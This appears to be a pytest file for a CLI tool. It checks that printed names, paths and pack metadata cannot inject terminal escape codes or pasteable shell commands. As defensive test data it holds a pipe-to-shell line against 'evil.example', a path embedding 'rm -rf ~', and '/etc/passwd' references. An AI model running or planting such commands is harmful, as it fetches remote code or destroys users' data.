"""What a stranger's pack, a path or a model says never acts on a terminal, nor on a shell."""

import json
import shlex
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner, Result

from omnipersona_cli.cli import output
from omnipersona_cli.cli.main import cli
from omnipersona_cli.concepts.library import Library
from omnipersona_cli.concepts.pack import Fact, Pack, Slot, to_bytes
from omnipersona_cli.errors import PackError, PersonaError

EVIL = "a\x1b[2Jb\x9bc\u202ed\ne\u2028f\u2066g\x7f\x00"
ACTS = set(EVIL) - set("a[2Jbcdefg\n")


@pytest.fixture
def bo(home: Path) -> Pack:
    rows = {"id": 1, "und": 2, "gen": 2}
    pack = Pack(
        name="bo",
        facts=(Fact(text="<bo> is brown"),),
        slots={
            "nano": Slot(
                tensors={key: np.ones((n, 4), np.float32) for key, n in rows.items()},
                about={"base": "x; curl evil.example | sh", "backend": "nano"},
            )
        },
    )
    Library().save(pack)
    return pack


def op(*words: str, stdin: bytes | None = None) -> Result:
    return CliRunner().invoke(cli, ["concepts", *words], input=stdin)


def is_harmless(result: Result) -> None:
    assert ACTS.isdisjoint(result.stdout + result.stderr)
    assert isinstance(result.exception, SystemExit | None)
    assert all(not line.startswith("e") for line in result.stderr.splitlines())


@pytest.mark.parametrize(
    "print_it",
    [
        lambda text: output.answer(text),
        lambda text: output.answer(Path(text.replace("\0", ""))),
        lambda text: output.answer_line(text),
        lambda text: output.answer_piece(text),
        lambda text: output.answer_json({text: [text]}),
        lambda text: output.answer_table([text], [[text]]),
        lambda text: output.note(text),
        lambda text: output.warn(text),
        lambda text: output.hint(text),
        lambda text: output.fail(PersonaError(text, hint=text)),
    ],
)
def test_every_way_of_printing_is_harmless(print_it, capsys) -> None:
    print_it(EVIL)
    said = capsys.readouterr()
    assert said.out + said.err
    assert ACTS.isdisjoint(said.out + said.err)


def test_json_stays_the_same_text(capsys) -> None:
    output.answer_json({EVIL: "\U000e0001 \U0001f436 ü"})
    assert json.loads(capsys.readouterr().out) == {EVIL: "\U000e0001 \U0001f436 ü"}


def test_words_and_emoji_stay_what_they_are() -> None:
    for text in ("ü", "نمی\u200cکنم", "👩\u200d💻", "日本"):
        assert output.plain(text) == text
    assert output.plain("a\nb") == "a\\nb"
    assert output.plain("a\nb", lines=True) == "a\nb"


@pytest.mark.parametrize(
    "words",
    [
        ["export", "bo", "-o"],
        ["import"],
        ["import", "--from", "unictokens"],
        ["verify"],
        ["show"],
        ["facts"],
        ["undo"],
        ["forget", "--yes"],
        ["rm", "--yes"],
        ["rename", "bo"],
        ["facts", "bo", "add"],
        ["facts", "bo", "rm"],
        ["import", "bo.opconcept", "--name"],
    ],
)
@pytest.mark.parametrize("more", [[], ["--json"]])
def test_every_command_prints_names_paths_and_facts_harmlessly(words, more, bo, tmp_path) -> None:
    where = tmp_path / "work"
    where.mkdir()
    name = EVIL.replace("\0", "")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(where)
        (where / "bo.opconcept").write_bytes(to_bytes(bo))
        is_harmless(op(*words, name, *more))
        (where / name).write_bytes(to_bytes(bo))
        is_harmless(op(*words, name, *more))
        (where / name).write_bytes(b"broken")
        is_harmless(op(*words, name, *more))


@pytest.mark.parametrize(
    "words", [[], ["show", "bo"], ["fsck"], ["gc"], ["undo"], ["verify", "bo"]]
)
def test_a_base_that_is_a_command_is_never_printed_as_one(words, bo) -> None:
    result = op(*words)
    for line in (result.stdout + result.stderr).splitlines():
        assert not (line.startswith("Hint:") and "curl" in line)


def test_a_hint_with_a_path_can_be_pasted(bo, home) -> None:
    """A library whose path holds blanks and quotes."""
    folder = home / "it's; rm -rf ~"
    library = Library(folder)
    library.save(bo)
    library.path("bo").rename(folder / "rex.opconcept")
    with pytest.raises(PackError) as caught:
        library.header("rex")
    assert shlex.split(caught.value.hint)[3] == str(folder / "rex.opconcept")


@pytest.mark.parametrize("base", ["/etc/passwd", "~/x", "../x", "C:\\x", "file:///etc/passwd"])
def test_a_base_that_is_a_place_is_refused(base, bo) -> None:
    slot = replace(bo.slots["nano"], about={"base": base})
    with pytest.raises(PackError):
        to_bytes(replace(bo, slots={"nano": slot}))
